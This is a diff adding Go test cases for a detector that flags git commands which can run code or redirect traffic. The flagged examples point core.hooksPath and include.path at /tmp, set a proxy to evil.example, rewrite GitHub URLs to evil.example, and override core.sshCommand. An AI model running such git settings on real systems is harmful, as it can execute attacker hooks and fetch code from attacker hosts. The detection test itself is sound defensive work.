@@ -243,5 +243,18 @@ func TestOpaque(t *testing.T) {
 		{views: `python3 -c 'exec(open("setup.py").read())'`, want: false},
 		{views: `node -e 'console.log(eval("1+1"))'`, want: false},
 		{views: `base64 -d file.b64`, want: false},
+		// git configuration that can run code or redirect git, given on
+		// the command line (hooks, includes, filters, proxies).
+		{views: `git -c core.hooksPath=/tmp/h commit -m x`, want: true},
+		{views: `git -c include.path=/tmp/cfg status`, want: true},
+		{views: `git -c http.proxy=evil.example:1 fetch`, want: true},
+		{views: `git -c url.https://evil.example/.insteadOf=https://github.com/ fetch`, want: true},
+		{views: `git --config-env=core.sshCommand=CMD fetch`, want: true},
+		{views: `git --config-env core.hooksPath=HOOKS commit -m x`, want: true},
+		{views: `git -c pager.branch=less branch`, want: true},
+		{views: `git -c user.name=x -c user.email=y commit -m z`, want: false},
+		{views: `git -c color.ui=always log`, want: false},
+		{views: `git -C /tmp/repo status`, want: false},
+		{views: `git --config-env=user.name=NAME commit -m x`, want: false},
 	})
 }
